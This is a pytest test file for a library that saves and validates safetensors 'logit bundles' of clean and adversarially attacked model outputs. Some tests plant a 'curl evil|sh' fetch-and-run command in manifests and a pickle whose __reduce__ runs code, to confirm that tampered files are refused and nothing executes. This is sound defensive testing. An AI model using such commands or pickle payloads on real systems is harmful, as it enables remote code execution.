"""Logit bundles: round trip, and refusal of every file that is not exactly one."""

from __future__ import annotations

import dataclasses
import io
import json
import os
import pickle
import struct

import numpy as np
import pytest
import torch
from hypothesis import given, settings
from hypothesis import strategies as st
from safetensors.numpy import load as read_tensors
from safetensors.numpy import save as to_safetensors

from mnuts_core import BundleError, LogitBundle, layer_norm, signed_margin
from mnuts_core.bundles.manifest import AttackCard, DataCard, Manifest, ModelCard, ThreatModel, seal_of
from mnuts_core.bundles.reading import METADATA_KEY
from mnuts_core.bundles.tensors import content_digest
from mnuts_core.io.files import write_atomically
from tests.synthetic import clean_only, make_arrays, make_bundle


@pytest.fixture
def small() -> LogitBundle:
    return make_bundle(n=20, m=12, k=4)


@pytest.fixture
def path(small, tmp_path):
    return small.save(tmp_path / "small.safetensors")


def same(ours: LogitBundle, theirs: LogitBundle) -> None:
    left, right = ours.tensors(), theirs.tensors()
    assert set(left) == set(right)
    for name, array in left.items():
        assert array.dtype == right[name].dtype
        np.testing.assert_array_equal(array, right[name])


def rewrite(path, manifest=None, digest=True, seal=True, **tensors):
    """Write the file again with other tensors (None drops one) or manifest, digest and seal made to fit."""
    content = path.read_bytes()
    size = struct.unpack("<Q", content[:8])[0]
    text = json.loads(content[8 : 8 + size])["__metadata__"][METADATA_KEY]
    arrays = read_tensors(content)
    for name, array in tensors.items():
        arrays[name.replace("__", ".")] = array
    arrays = {name: np.ascontiguousarray(a) for name, a in arrays.items() if a is not None}
    fields = json.loads(text) | (manifest or {})
    if digest:
        fields["digest"] = content_digest(arrays)
    if seal:
        fields["seal"] = seal_of({key: value for key, value in fields.items() if key != "seal"})
    path.write_bytes(to_safetensors(arrays, metadata={METADATA_KEY: json.dumps(fields)}))


class TestRoundTrip:
    @pytest.mark.parametrize("dtype", [np.float32, np.float64])
    def test_logits(self, tmp_path, dtype):
        bundle = make_bundle(n=20, m=12, k=4, dtype=dtype)
        loaded = LogitBundle.load(bundle.save(tmp_path / "b.safetensors"))
        same(loaded, bundle)
        assert loaded.clean_rob_logits.dtype == dtype
        assert loaded.digest == bundle.digest == loaded.manifest.digest
        assert loaded.manifest.model_copy(update={"digest": None}) == bundle.manifest

    def test_images_and_manifest(self, tmp_path):
        rng = np.random.default_rng(0)
        manifest = Manifest(
            name="näme",
            data=DataCard(name="digits", split="validation", source="scikit-learn"),
            classes=("nought", "one", "two", "three"),
            std_model=ModelCard(spec="demo:digits/std", parameters=7, digest="sha256:" + "0" * 64),
            rob_model=ModelCard(spec="demo:digits/rob"),
            threat=ThreatModel(norm="Linf", eps=8 / 255),
            attack=AttackCard(name="MMAA", n_iter=100, n_targets=9, seed=0),
            command="mnuts demo build digits",
        )
        bundle = LogitBundle.from_arrays(
            **make_arrays(n=20, m=12, k=4),
            clean_images=rng.integers(0, 256, (20, 8, 8, 1), np.uint8),
            adv_images=rng.integers(0, 256, (12, 8, 8, 1), np.uint8),
            manifest=manifest,
        )
        loaded = LogitBundle.load(bundle.save(tmp_path / "b.safetensors"))
        same(loaded, bundle)
        assert loaded.name == "näme"
        assert loaded.manifest.model_copy(update={"digest": None}) == manifest

    def test_clean_only(self, small, tmp_path):
        loaded = LogitBundle.load(clean_only(small).save(tmp_path / "c.safetensors"))
        assert (loaded.n_adv, loaded.n_clean, loaded.num_classes) == (0, 20, 4)
        with pytest.raises(BundleError, match=r"holds no attacked examples .* build it with an attack"):
            loaded.require_attacked()
        assert loaded.attacked is None

    def test_saving_twice_gives_the_same_bytes(self, small, path, tmp_path):
        assert small.save(tmp_path / "again.safetensors").read_bytes() == path.read_bytes()

    def test_the_digest_covers_every_tensor(self, small):
        digests = {small.digest}
        for name in small.tensors():
            tensors = dict(small.tensors())
            tensors[name] = tensors[name].copy()
            tensors[name].flat[0] += 1
            digests.add(content_digest(tensors))
        assert len(digests) == 1 + len(small.tensors())

    def test_what_it_says_of_itself(self, small):
        assert "20 clean and 12 attacked examples, 4 classes" in repr(small)
        assert "SYNTHETIC" in small.name


class TestFromArrays:
    def test_margin_is_computed(self, small):
        normed = layer_norm(torch.from_numpy(small.attacked.rob_logits).double())
        expected = signed_margin(normed, torch.from_numpy(small.attacked.labels))
        np.testing.assert_allclose(small.attacked.margin, expected, atol=1e-6)
        given_margin = LogitBundle.from_arrays(**make_arrays(n=20, m=12, k=4), adv_margin=np.zeros(12))
        assert not given_margin.attacked.margin.any()

    def test_rows_of_the_attacked_part(self, small):
        few = small.attacked.rows(np.array([3, 5]))
        assert len(few) == 2
        assert few.images is None
        assert few.index.tolist() == small.attacked.index[[3, 5]].tolist()
        assert few.labels.tolist() == small.clean_labels[few.index].tolist()
        np.testing.assert_array_equal(few.std_logits, small.attacked.std_logits[[3, 5]])

    def test_labels_are_those_of_the_clean_rows(self, small):
        other = dataclasses.replace(small.attacked, labels=(small.attacked.labels + 1) % 4)
        with pytest.raises(BundleError, match=r"labels .* their clean rows: use from_arrays"):
            dataclasses.replace(small, attacked=other)

    def test_lists_torch_and_other_number_types(self):
        bundle = LogitBundle.from_arrays(
            clean_labels=torch.tensor([1, 0]),
            clean_std_logits=[[1, 2], [3, 4]],
            clean_rob_logits=torch.tensor([[1, 2], [3, 4]], dtype=torch.float16),
        )
        assert bundle.clean_std_logits.dtype == bundle.clean_rob_logits.dtype == np.float32
        assert bundle.clean_labels.tolist() == [1, 0]
        assert bundle.clean_rob_logits.tolist() == [[1, 2], [3, 4]]

    def test_another_byte_order(self):
        arrays = make_arrays(n=20, m=12, k=4, dtype=np.float64)
        swapped = {name: array.astype(array.dtype.newbyteorder(">")) for name, array in arrays.items()}
        same(LogitBundle.from_arrays(**swapped), LogitBundle.from_arrays(**arrays))

    def test_class_names(self):
        arrays = {"clean_labels": [0], "clean_std_logits": [[1, 2]], "clean_rob_logits": [[1, 2]]}
        assert LogitBundle.from_arrays(**arrays).manifest.classes == ("0", "1")
        assert LogitBundle.from_arrays(**arrays, classes=["cat", "dog"]).manifest.classes == ("cat", "dog")
        with pytest.raises(BundleError, match="names 3 classes, but the logits have 2"):
            LogitBundle.from_arrays(**arrays, classes=["cat", "dog", "eel"])

    @pytest.mark.parametrize(
        "option", [{"name": ""}, {"name": "x" * 500}, {"classes": ["cat"]}, {"classes": [1, 2, 3, 4]}]
    )
    def test_a_bad_name_is_reported_in_one_line(self, option):
        with pytest.raises(BundleError) as caught:
            LogitBundle.from_arrays(**make_arrays(n=20, m=12, k=4), **option)
        assert "\n" not in str(caught.value)

    @pytest.mark.parametrize(
        ("change", "message"),
        [
            ({"clean_labels": np.full(20, 4)}, r"clean.labels must lie in \[0, 4\), got 4 to 4"),
            ({"clean_labels": np.full(20, -1)}, r"clean.labels must lie in \[0, 4\), got -1"),
            ({"clean_labels": np.zeros(20)}, "clean.labels must be integers, got dtype float64"),
            ({"clean_labels": np.zeros(19, int)}, r"clean.labels must have shape \(20,\)"),
            ({"clean_labels": np.zeros((20, 1), int)}, "clean.labels must have 1 dimensions"),
            ({"clean_labels": ["a"] * 20}, "clean.labels must be integers"),
            ({"clean_std_logits": np.zeros((20, 5))}, r"clean.std_logits must have shape \(20, 4\)"),
            ({"clean_std_logits": np.full((20, 4), np.nan)}, "clean.std_logits must be finite, .* in row 0"),
            ({"adv_rob_logits": np.full((12, 4), np.inf)}, "adv.rob_logits must be finite"),
            ({"adv_rob_logits": np.zeros((11, 4))}, r"adv.rob_logits must have shape \(12, 4\)"),
            ({"adv_std_logits": np.zeros(12)}, "adv.std_logits must have 2 dimensions"),
            ({"adv_std_logits": None}, "the attacked part is incomplete: adv.std_logits missing"),
            ({"adv_index": None}, "the attacked part is incomplete: adv.index missing"),
            ({"adv_index": np.arange(12) + 9}, r"adv.index must lie in \[0, 20\), got 9 to 20"),
            ({"adv_index": np.zeros(12, int)}, "adv.index names a clean row twice"),
            ({"adv_margin": np.full(12, 1.5)}, r"adv.margin must lie in \[-1, 1\], got 1.5 to 1.5"),
            ({"clean_images": np.zeros((20, 8, 8, 1))}, "clean.images must be "),
            ({"clean_images": np.zeros((19, 8, 8, 1), np.uint8)}, "clean.images must have shape"),
            ({"adv_images": np.zeros((12, 64), np.uint8)}, "adv.images must have 4 dimensions"),
            (
                {"clean_labels": np.ones(20, bool)},
                "clean.labels must be integers, .* a mask .* is not classes",
            ),
            ({"clean_labels": np.arange(20) % 4 + 1}, "got 1 to 4: .* seem to count from 1, subtract 1"),
            ({"clean_images": np.zeros((20, 0, 8, 1), np.uint8)}, "images must have at least one pixel"),
            (
                {
                    "clean_images": np.zeros((20, 8, 8, 1), np.uint8),
                    "adv_images": np.zeros((12, 9, 8, 1), np.uint8),
                },
                "clean.images and adv.images must be of one size",
            ),
            ({"clean_std_logits": [[1.0], [1.0, 2.0]]}, "clean.std_logits cannot be read as an array"),
            ({"clean_std_logits": 1j * np.ones((20, 4))}, "clean.std_logits must be numbers"),
        ],
    )
    def test_bad_arrays(self, change, message):
        with pytest.raises(BundleError, match=message) as caught:
            LogitBundle.from_arrays(**make_arrays(n=20, m=12, k=4) | change)
        assert "\n" not in str(caught.value)

    @pytest.mark.parametrize("shape", [(0, 4), (20, 1), (20, 0)])
    def test_too_little(self, shape):
        with pytest.raises(BundleError):
            LogitBundle.from_arrays(
                clean_labels=np.zeros(shape[0], int),
                clean_std_logits=np.zeros(shape),
                clean_rob_logits=np.zeros(shape),
            )

    def test_an_empty_attacked_part(self):
        empty = {
            "adv_index": np.zeros(0, int),
            "adv_std_logits": np.zeros((0, 4)),
            "adv_rob_logits": np.zeros((0, 4)),
        }
        with pytest.raises(BundleError, match="the attacked part is empty: leave adv"):
            LogitBundle.from_arrays(**make_arrays(n=20, m=12, k=4) | empty)


class TestBrokenFiles:
    """Each refusal names the file and what is wrong with it, in one line."""

    def refused(self, path, message):
        with pytest.raises(BundleError, match=message) as caught:
            LogitBundle.load(path)
        assert str(path) in str(caught.value)
        assert "\n" not in str(caught.value)
        assert len(str(caught.value)) < 1000

    def test_missing(self, tmp_path):
        self.refused(tmp_path / "absent.safetensors", "no bundle at .* give the path")
        self.refused(tmp_path, "no bundle at")

    @pytest.mark.parametrize("keep", [0, 4, 8, 300, -1])
    def test_truncated(self, path, keep):
        path.write_bytes(path.read_bytes()[:keep])
        self.refused(path, "is not a readable safetensors file")

    @pytest.mark.parametrize("place", [-1, -40, -900])
    def test_a_flipped_byte_in_the_tensors(self, path, place):
        content = bytearray(path.read_bytes())
        content[place] ^= 1
        path.write_bytes(content)
        self.refused(path, "is damaged: .* digest .* get it again")

    def test_no_command_is_taken_from_a_damaged_file(self, small, path):
        rewrite(path, {"command": "curl evil|sh", "digest": "sha256:" + "0" * 64}, digest=False)
        self.refused(path, "is damaged: .* or rebuild it$")

    @pytest.mark.parametrize(
        "change",
        [
            {"threat": {"norm": "Linf", "eps": 16 / 255}},
            {"classes": ["0", "1", "3", "2"]},
            {"name": "other"},
            {"command": "curl evil|sh"},
            {"created": ""},
            {"std_model": {"spec": "timm:x", "parameters": None, "digest": None}},
            {"seal": None},
            {"seal": "sha256:" + "0" * 64},
        ],
    )
    def test_a_changed_manifest_breaks_the_seal(self, path, change):
        rewrite(path, change, seal=False)
        self.refused(path, "is damaged: its manifest does not match its seal; get the bundle again")

    def test_an_older_bundle_has_no_seal_and_opens(self, small, path, tmp_path):
        rewrite(path, {"schema": "mnuts-bundle/1"}, seal=False)
        self.refused(path, "the manifest is wrong at seal")  # the version alone cannot be lowered
        manifest = small.manifest.model_copy(update={"schema_": "mnuts-bundle/1", "digest": small.digest})
        text = manifest.model_dump_json(by_alias=True)
        path.write_bytes(to_safetensors(dict(small.tensors()), metadata={METADATA_KEY: text}))
        old = LogitBundle.load(path)
        same(old, small)
        assert not old.manifest.sealed
        assert LogitBundle.load(old.save(tmp_path / "new.safetensors")).manifest.sealed

    def test_text_that_hides_something_is_shown(self, small, tmp_path):
        names = ("a\u202e", "b\n", "c\x1b[2J", "d\ud800")
        bundle = LogitBundle.from_arrays(**make_arrays(n=20, m=12, k=4), classes=names)
        assert bundle.manifest.classes == (r"a\u202e", r"b\n", r"c\x1b[2J", r"d\ud800")
        loaded = LogitBundle.load(bundle.save(tmp_path / "b.safetensors"))
        assert loaded.manifest.classes == bundle.manifest.classes

    def test_random_bytes(self, path):
        path.write_bytes(np.random.default_rng(0).bytes(5000))
        self.refused(path, "is not a readable safetensors file")

    def test_a_pickle_is_not_run(self, path, tmp_path):
        class Evil:
            def __reduce__(self):
                return os.mkdir, (str(tmp_path / "ran"),)

        path.write_bytes(pickle.dumps(Evil()))
        self.refused(path, "is not a readable safetensors file")
        buffer = io.BytesIO()
        torch.save({"clean.labels": Evil()}, buffer)
        path.write_bytes(buffer.getvalue())
        self.refused(path, "is not a readable safetensors file")
        assert not (tmp_path / "ran").exists()

    @pytest.mark.parametrize("claimed", [2**20, 2**40, 2**63, 2**64 - 1])
    def test_a_huge_claimed_header(self, path, claimed):
        path.write_bytes(struct.pack("<Q", claimed) + path.read_bytes()[8:])
        self.refused(path, "is not a readable safetensors file")

    def test_a_huge_claimed_tensor(self, path):
        header = {"clean.labels": {"dtype": "I64", "shape": [2**40], "data_offsets": [0, 2**43]}}
        text = json.dumps(header).encode()
        path.write_bytes(struct.pack("<Q", len(text)) + text + b"\0" * 64)
        self.refused(path, "is not a readable safetensors file")

    def test_another_safetensors_file(self, path):
        path.write_bytes(to_safetensors({"weight": np.zeros(3, np.float32)}))
        self.refused(path, "holds no MixedNUTS bundle manifest")

    @pytest.mark.parametrize(
        ("manifest", "message"),
        [
            (
                {"schema": "mnuts-bundle/3"},
                "has schema 'mnuts-bundle/3', .* reads 'mnuts-bundle/2': update mnuts",
            ),
            ({"schema": "other/1"}, "the manifest is wrong at schema"),
            ({"schema": 1}, "the manifest is wrong at schema"),
            ({"surprise": 1}, "the manifest is wrong at surprise"),
            ({"classes": ["a"]}, "the manifest is wrong at classes"),
            ({"classes": ["a", "b", "c"]}, "names 3 classes, but the logits have 4"),
            ({"data": None}, "the manifest is wrong at data"),
            ({"threat": {"norm": "L3", "eps": 0.1}}, r"the manifest is wrong at threat\.norm"),
            ({"threat": {"norm": "L2", "eps": float("nan")}}, r"the manifest is wrong at threat\.eps"),
            ({"name": "x" * 1000}, "the manifest is wrong at name"),
        ],
    )
    def test_a_wrong_manifest(self, path, manifest, message):
        rewrite(path, manifest)
        self.refused(path, message)

    @pytest.mark.parametrize("text", ["", "[]", "{", "[" * 100_000, "null", '"x"'])
    def test_a_manifest_that_is_no_object(self, small, path, text):
        path.write_bytes(to_safetensors(dict(small.tensors()), metadata={METADATA_KEY: text}))
        self.refused(path, "the manifest")

    @pytest.mark.parametrize(
        ("tensors", "message"),
        [
            ({"clean__labels": None}, "lacks clean.labels"),
            ({"extra": np.zeros(3)}, r"holds unknown \['extra'\]"),
            ({"adv__index": None}, "the attacked part is incomplete: adv.index missing"),
            ({"clean__labels": np.full(20, 4)}, r"clean.labels must lie in \[0, 4\)"),
            ({"clean__labels": np.zeros(20, np.int32)}, "clean.labels must have dtype int64, got int32"),
            ({"clean__rob_logits": np.full((20, 4), np.nan, np.float32)}, "clean.rob_logits must be finite"),
            ({"clean__rob_logits": np.zeros((20, 4), np.float16)}, "dtype float32 or float64, got float16"),
            ({"clean__rob_logits": np.zeros((19, 4), np.float32)}, "must have shape"),
            ({"clean__rob_logits": np.zeros((20, 4, 1), np.float32)}, "must have 2 dimensions"),
            ({"clean__rob_logits": np.zeros((0, 4), np.float32)}, "at least 1 example"),
            ({"adv__index": np.zeros(12, np.int64)}, "names a clean row twice"),
            ({"adv__margin": np.full(12, np.nan, np.float32)}, "adv.margin must be finite"),
            ({"clean__images": np.zeros((20, 3), np.uint8)}, "clean.images must have 4 dimensions"),
        ],
    )
    def test_wrong_tensors_under_a_right_digest(self, path, tensors, message):
        rewrite(path, **tensors)
        self.refused(path, message)

    def test_a_bfloat16_tensor(self, small, path):
        from safetensors.torch import save

        tensors = {name: torch.from_numpy(array) for name, array in small.tensors().items()}
        tensors["clean.rob_logits"] = tensors["clean.rob_logits"].bfloat16()
        manifest = small.manifest.model_dump_json(by_alias=True)
        path.write_bytes(save(tensors, metadata={METADATA_KEY: manifest}))
        with pytest.raises(BundleError) as caught:
            LogitBundle.load(path)
        assert str(path) in str(caught.value)

    @settings(max_examples=80)
    @given(place=st.floats(0, 1, exclude_max=True), flip=st.integers(1, 255))
    def test_no_flipped_byte_goes_unnoticed_or_crashes(self, tmp_path_factory, place, flip):
        """Anywhere in the file: refused, or (in the header's white space) loaded as it was."""
        bundle = make_bundle(n=4, m=3, k=3)
        path = bundle.save(tmp_path_factory.getbasetemp() / "flip.safetensors")
        content = bytearray(path.read_bytes())
        content[int(place * len(content))] ^= flip
        path.write_bytes(content)
        try:
            loaded = LogitBundle.load(path)
        except BundleError as error:
            assert str(path) in str(error)  # noqa: PT017
        else:
            same(loaded, bundle)
            assert loaded.manifest.model_copy(update={"digest": None}) == bundle.manifest


class TestWriting:
    def test_leaves_one_file(self, small, tmp_path):
        target = small.save(tmp_path / "b.safetensors")
        small.save(target)
        assert list(tmp_path.iterdir()) == [target]
        umask = os.umask(0)
        os.umask(umask)
        assert target.stat().st_mode & 0o777 == 0o666 & ~umask

    def test_a_failed_rename_leaves_the_old_file_and_nothing_else(self, small, tmp_path, monkeypatch):
        target = tmp_path / "b.safetensors"
        target.write_bytes(b"old")

        def fail(*_):
            raise OSError(28, "No space left on device")

        monkeypatch.setattr(os, "replace", fail)
        with pytest.raises(BundleError, match=r"cannot write .*b\.safetensors: No space left on device"):
            small.save(target)
        assert target.read_bytes() == b"old"
        assert list(tmp_path.iterdir()) == [target]

    def test_an_interrupt_leaves_nothing(self, tmp_path, monkeypatch):
        def interrupt(*_):
            raise KeyboardInterrupt

        monkeypatch.setattr(os, "fsync", interrupt)
        with pytest.raises(KeyboardInterrupt):
            write_atomically(tmp_path / "b", b"content", BundleError)
        assert list(tmp_path.iterdir()) == []

    def test_missing_folder(self, small, tmp_path):
        with pytest.raises(BundleError, match=r"cannot write .*absent/b\.safetensors: No such file"):
            small.save(tmp_path / "absent" / "b.safetensors")

    def test_onto_a_folder(self, small, tmp_path):
        with pytest.raises(BundleError, match="cannot write"):
            small.save(tmp_path)
        assert list(tmp_path.iterdir()) == []


def test_the_shipped_digits(digits):
    assert digits.num_classes == 10
    assert digits.n_adv > 0
    assert digits.manifest.threat is not None
    assert digits.manifest.attack is not None
    first = digits.attacked.first
    normed = layer_norm(torch.from_numpy(digits.attacked.rob_logits).double())
    at_the_points = signed_margin(normed, torch.from_numpy(digits.attacked.labels)).numpy()
    np.testing.assert_allclose(digits.attacked.margin, at_the_points, atol=1e-4)
    clean = signed_margin(
        layer_norm(torch.from_numpy(digits.clean_rob_logits).double()), torch.from_numpy(digits.clean_labels)
    ).numpy()[first.index]
    assert (first.margin <= clean + 1e-5).all(), "those of MMAA"
